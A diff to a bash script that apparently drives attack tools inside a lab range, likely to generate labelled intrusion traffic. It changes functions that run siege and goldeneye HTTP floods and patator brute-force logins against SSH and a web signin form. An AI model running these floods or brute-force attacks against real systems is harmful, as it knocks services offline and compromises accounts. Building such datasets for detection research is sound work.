@@ -433,10 +433,15 @@ http_flood_hey() {
 		-disable-keepalive "http://${addr4[$2]}/part/$((RANDOM % 30 + 1)).bin"
 }
 
-# Ever other paths, agents and headers, over connections that are kept.
+# Ever other pages, with their parts.
 http_flood_random() {
-	attack4 DoS "$1" "$2" "$((RANDOM % 4 + 4))" goldeneye "http://${addr4[$2]}/" -w 2 \
-		-s "$((RANDOM % 60 + 20))" -m random
+	local n
+	for ((n = 0; n < 40; n++)); do
+		echo "http://${addr4[$2]}/docs/$((RANDOM % 14 + 1)).html"
+		echo "http://${addr4[$2]}/app/item/$RANDOM?page=$RANDOM"
+	done >"$range_dir/pages-$1"
+	HOME=$range_dir attack4 DoS "$1" "$2" 10 siege -q -b -i -c "$((RANDOM % 60 + 15))" -t 3S \
+		-f "$range_dir/pages-$1"
 }
 
 http_flood_ab() {
@@ -541,7 +546,7 @@ patator_run() {
 	local host=$1 server=$2 module=$3 words
 	shift 3
 	draw_words "$host"
-	attack4 Brute_Force "$host" "$server" 25 patator "$module" "$@" 0="$range_dir/names" 1="$words" \
+	attack4 Brute_Force "$host" "$server" 35 patator "$module" "$@" 0="$range_dir/names" 1="$words" \
 		-t "$((RANDOM % 8 + 1))" --max-retries 1
 }
 
@@ -549,7 +554,7 @@ patator_ssh() { patator_run "$1" "$2" ssh_login "host=${addr4[$2]}" user=FILE0 p
 
 patator_form() {
 	patator_run "$1" "$2" http_fuzz "url=http://${addr4[$2]}/signin" method=POST \
-		'body=user=FILE0&pass=FILE1'
+		'body=user=FILE0&pass=FILE1' "resolve=www.example:${addr4[$2]}"
 }
 
 # nmap_brute HOST SERVER PORT SCRIPT [ARGUMENT]
